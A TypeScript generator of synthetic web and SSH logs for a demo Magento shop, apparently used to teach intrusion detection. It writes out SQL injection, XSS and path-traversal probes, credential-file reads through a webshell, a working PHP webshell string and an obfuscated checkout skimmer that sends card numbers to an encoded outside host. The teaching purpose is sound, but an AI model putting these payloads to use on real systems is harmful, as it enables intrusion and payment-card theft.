// The demo shop's traffic: a day of ordinary visits to a small Magento 2 shop, and inside it
// a real-looking intrusion — a scan, an admin brute force that succeeds, a webshell uploaded
// through the admin's media uploader, an SSH login with the stolen deploy password from the
// attacker's address, and a card skimmer written into the checkout JavaScript. Deterministic
// but for the times, which end at "now" so the walk-through's relative times (24h) work.

import { seededRandom as rng } from '../core/random.ts';
export const demoAttack = {
  scanner: '185.220.101.34',
  attacker: '45.155.205.99',
  sshBrute: '193.42.33.7',
  deployHome: '198.51.100.20',
  adminPath: '/admin_x7k2',
  shell: 'pub/media/wysiwyg/.system/cache.php',
  skimmedFile: 'pub/static/frontend/Harbor/pine/en_US/Magento_Checkout/js/view/payment.js',
};

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad = (n: number) => String(n).padStart(2, '0');

export function nginxTime(ms: number): string {
  const d = new Date(ms);
  return `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
}

export function syslogTime(ms: number): string {
  const d = new Date(ms);
  return `${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
}

const browsers = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36',
];
const bots = [
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
];
const products = [
  'wool-blanket-harbor',
  'pine-candle-large',
  'union-jack-cushion',
  'cedar-soap-set',
  'linen-apron',
  'enamel-mug-forest',
  'select-coffee-beans',
  'brass-lantern',
];
const categories = ['home-decor', 'kitchen', 'bath', 'gifts', 'sale'];
const searches = [
  'blanket',
  'union+jack',
  'select+coffee',
  'candle+<3',
  'mug',
  'gift+for+dad',
  'drop+leaf+table',
  'cedar',
  'lantern',
];

interface Line {
  time: number;
  text: string;
}

function access(
  time: number,
  ip: string,
  method: string,
  target: string,
  status: number,
  bytes: number | null,
  ua: string,
  referer = '-',
): Line {
  return {
    time,
    text: `${ip} - - [${nginxTime(time)}] "${method} ${target} HTTP/1.1" ${status} ${bytes ?? '-'} "${referer}" "${ua}"`,
  };
}

export interface DemoTraffic {
  access: string;
  auth: string;
  /** When the skimmer was written (the last step of the attack). */
  skimmedAt: number;
}

/** Generates the demo logs ending a few minutes before `now`. */
export function demoTraffic(now: number): DemoTraffic {
  const r = rng(20261102);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T;
  const start = now - 24 * 3600_000;
  const a = demoAttack;
  const acc: Line[] = [];
  const auth: Line[] = [];
  const site = 'https://harborandpine.example';

  // Ordinary shoppers: sessions of a few pages, some add to cart, a few check out.
  const shoppers = Array.from(
    { length: 160 },
    (_, i) => `${[203, 198, 192][i % 3]}.${[0, 51, 0][i % 3]}.${[113, 100, 2][i % 3]}.${10 + (i % 200)}`,
  );
  for (let s = 0; s < 420; s++) {
    const ip = pick(shoppers);
    const ua = pick(browsers);
    let t = start + Math.floor(r() * (now - start - 3600_000));
    const cat = pick(categories);
    acc.push(access(t, ip, 'GET', '/', 200, 18_000 + Math.floor(r() * 3000), ua, 'https://www.google.com/'));
    acc.push(access(t + 400, ip, 'GET', '/static/frontend/Harbor/pine/en_US/styles.css', 200, 5120, ua, `${site}/`));
    t += 5000 + Math.floor(r() * 20_000);
    acc.push(access(t, ip, 'GET', `/${cat}.html`, 200, 24_000, ua, `${site}/`));
    if (r() < 0.4) {
      t += 4000;
      acc.push(
        access(t, ip, 'GET', `/catalogsearch/result/?q=${pick(searches)}`, 200, 21_000, ua, `${site}/${cat}.html`),
      );
    }
    const prod = pick(products);
    t += 6000 + Math.floor(r() * 30_000);
    acc.push(access(t, ip, 'GET', `/${prod}.html`, 200, 31_000, ua, `${site}/${cat}.html`));
    acc.push(
      access(t + 300, ip, 'GET', `/media/catalog/product/b/l/${prod}.jpg`, 200, 88_000, ua, `${site}/${prod}.html`),
    );
    if (r() < 0.3) {
      t += 8000;
      acc.push(
        access(
          t,
          ip,
          'POST',
          '/checkout/cart/add/uenc/aHR0cHM6Ly9oYXJib3JhbmRwaW5lLmV4YW1wbGUv/product/12/',
          302,
          0,
          ua,
          `${site}/${prod}.html`,
        ),
      );
      if (r() < 0.5) {
        t += 15_000;
        acc.push(access(t, ip, 'GET', '/checkout/', 200, 40_000, ua, `${site}/checkout/cart/`));
        acc.push(
          access(
            t + 500,
            ip,
            'GET',
            '/static/frontend/Harbor/pine/en_US/Magento_Checkout/js/view/payment.js',
            200,
            1480,
            ua,
            `${site}/checkout/`,
          ),
        );
        acc.push(
          access(
            t + 60_000,
            ip,
            'POST',
            '/rest/default/V1/carts/mine/payment-information',
            200,
            12,
            ua,
            `${site}/checkout/`,
          ),
        );
        acc.push(access(t + 62_000, ip, 'GET', '/checkout/onepage/success/', 200, 15_000, ua, `${site}/checkout/`));
      }
    }
  }
  for (let i = 0; i < 120; i++) {
    const t = start + Math.floor(r() * (now - start));
    acc.push(access(t, `66.249.66.${1 + (i % 50)}`, 'GET', `/${pick(products)}.html`, 200, 31_000, pick(bots)));
  }
  // The shop's own admin works from the office in the morning.
  const officeLogin = start + 9 * 3600_000;
  acc.push(access(officeLogin, a.deployHome, 'GET', `${a.adminPath}/admin/`, 200, 9000, browsers[1] as string));
  acc.push(
    access(
      officeLogin + 20_000,
      a.deployHome,
      'POST',
      `${a.adminPath}/admin/index/index/key/4f1c0e/`,
      302,
      0,
      browsers[1] as string,
      `${site}${a.adminPath}/admin/`,
    ),
  );
  acc.push(
    access(
      officeLogin + 22_000,
      a.deployHome,
      'GET',
      `${a.adminPath}/admin/dashboard/`,
      200,
      51_000,
      browsers[1] as string,
    ),
  );
  // deploy logs in over SSH every morning from the office, with its key.
  for (const h of [7, 8]) {
    const t = start + h * 3600_000 + 120_000;
    auth.push({
      time: t,
      text: `${syslogTime(t)} web1 sshd[${2100 + h}]: Accepted publickey for deploy from ${a.deployHome} port ${50_000 + h} ssh2: ED25519 SHA256:p2QAMXNIC1TJYWeIOttrVc98/R1BUFWu3/LiyKgUfQM`,
    });
    auth.push({
      time: t + 1,
      text: `${syslogTime(t + 1)} web1 sshd[${2100 + h}]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)`,
    });
  }

  // --- the intrusion, in the last hours ---
  let t = now - 4 * 3600_000;
  // 1. A scanner probes for secrets, backups and known panels, with injection attempts.
  const nikto = 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)';
  const probes = [
    '/.env',
    '/.git/config',
    '/phpinfo.php',
    '/app/etc/env.php',
    '/backup.zip',
    '/downloader/',
    '/wp-login.php',
    '/admin',
    '/magento_version',
    '/var/backups/db.sql.gz',
    '/.aws/credentials',
    '/server-status',
  ];
  for (const p of probes) acc.push(access((t += 900), a.scanner, 'GET', p, p === '/admin' ? 302 : 404, 345, nikto));
  acc.push(
    access(
      (t += 900),
      a.scanner,
      'GET',
      '/catalogsearch/result/?q=1%27%20UNION%20SELECT%20NULL,CONCAT(username,0x3a,password),NULL%20FROM%20admin_user--%20-',
      200,
      20_100,
      'sqlmap/1.8.2#stable (https://sqlmap.org)',
    ),
  );
  acc.push(
    access(
      (t += 900),
      a.scanner,
      'GET',
      '/catalogsearch/result/?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E',
      200,
      20_050,
      nikto,
    ),
  );
  acc.push(access((t += 900), a.scanner, 'GET', '/static/..%2f..%2f..%2f..%2fetc%2fpasswd', 400, 150, nikto));
  // 2. Brute force on the admin login from the attacker, until it works.
  t = now - 3 * 3600_000;
  const attackUa =
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';
  for (let i = 0; i < 240; i++)
    acc.push(
      access(
        (t += 1500),
        a.attacker,
        'POST',
        `${a.adminPath}/admin/index/index/`,
        200,
        9100,
        attackUa,
        `${site}${a.adminPath}/admin/`,
      ),
    );
  acc.push(
    access(
      (t += 1500),
      a.attacker,
      'POST',
      `${a.adminPath}/admin/index/index/`,
      302,
      0,
      attackUa,
      `${site}${a.adminPath}/admin/`,
    ),
  );
  acc.push(access((t += 2000), a.attacker, 'GET', `${a.adminPath}/admin/dashboard/`, 200, 51_000, attackUa));
  // 3. A webshell uploaded through the WYSIWYG media uploader, then used.
  t = now - 9 * 60_000;
  acc.push(access((t += 5000), a.attacker, 'GET', `${a.adminPath}/cms/wysiwyg_images/index/`, 200, 12_000, attackUa));
  acc.push(
    access(
      (t += 5000),
      a.attacker,
      'POST',
      `${a.adminPath}/cms/wysiwyg_images/upload/type/file/?isAjax=true`,
      200,
      210,
      attackUa,
    ),
  );
  acc.push(access((t += 8000), a.attacker, 'GET', '/media/wysiwyg/.system/cache.php?c=id', 200, 54, 'curl/8.5.0'));
  acc.push(
    access(
      (t += 8000),
      a.attacker,
      'GET',
      '/media/wysiwyg/.system/cache.php?c=cat+app/etc/env.php',
      200,
      690,
      'curl/8.5.0',
    ),
  );
  // 4. The stolen deploy password tried over SSH from the attacker's address.
  const sshAt = now - 6 * 60_000;
  auth.push({
    time: sshAt,
    text: `${syslogTime(sshAt)} web1 sshd[4411]: Accepted password for deploy from ${a.attacker} port 41922 ssh2`,
  });
  auth.push({
    time: sshAt + 1,
    text: `${syslogTime(sshAt + 1)} web1 sshd[4411]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)`,
  });
  auth.push({
    time: sshAt + 60_000,
    text: `${syslogTime(sshAt + 60_000)} web1 sudo:   deploy : TTY=pts/1 ; PWD=/var/www/harborpine ; USER=root ; COMMAND=/usr/bin/crontab -l`,
  });
  // 5. The skimmer written into the checkout script through the webshell.
  const skimmedAt = now - 2 * 60_000;
  acc.push(access(skimmedAt - 2000, a.attacker, 'POST', '/media/wysiwyg/.system/cache.php', 200, 12, 'curl/8.5.0'));

  // Meanwhile, an SSH brute force from elsewhere (many users, many failures).
  let b = now - 6 * 3600_000;
  const users = ['root', 'admin', 'test', 'ubuntu', 'oracle', 'postgres', 'git', 'magento'];
  for (let i = 0; i < 400; i++) {
    const u = users[i % users.length] as string;
    b += 2000 + Math.floor(r() * 2000);
    const invalid = u !== 'root';
    auth.push({
      time: b,
      text: `${syslogTime(b)} web1 sshd[${5000 + i}]: Failed password for ${invalid ? 'invalid user ' : ''}${u} from ${a.sshBrute} port ${40_000 + i} ssh2`,
    });
    if (i % 6 === 0)
      auth.push({
        time: b + 1,
        text: `${syslogTime(b + 1)} web1 sshd[${5000 + i}]: Connection closed by ${invalid ? 'invalid user ' : 'authenticating user '}${u} ${a.sshBrute} port ${40_000 + i} [preauth]`,
      });
  }
  acc.sort((x, y) => x.time - y.time);
  auth.sort((x, y) => x.time - y.time);
  // One line a broken proxy wrote: kept as a rejection, never dropped.
  const brokenAt = Math.floor(acc.length / 2);
  acc.splice(brokenAt, 0, { time: 0, text: '\u0016\u0003\u0001\u0000\u00a5\u0001\u0000\u0000\u00a1\u0003\u0003' });
  return { access: acc.map((l) => `${l.text}\n`).join(''), auth: auth.map((l) => `${l.text}\n`).join(''), skimmedAt };
}

/** The skimmer the attacker appends to the checkout script (inert text; for the demo only). */
export const demoSkimmer =
  "\n;(function(){var _0x=['Y2hlY2tvdXQ=','aHR0cHM6Ly9jZG4tYW5hbHl0aWNzLWpzLmNvbS9jb2xsZWN0'];" +
  "document.addEventListener('change',function(e){if(e.target&&/cc_number|card/i.test(e.target.name)){" +
  "var d=new FormData();d.append('c',btoa(e.target.value));navigator.sendBeacon(atob(_0x[1]),d);}});})();\n";

/** The webshell the attacker uploads (inert text; for the demo only). */
export const demoShell =
  "<?php if (isset($_REQUEST['c'])) { echo '<pre>'; system($_REQUEST['c']); echo '</pre>'; } @eval(base64_decode($_POST['p'] ?? '')); ?>\n";
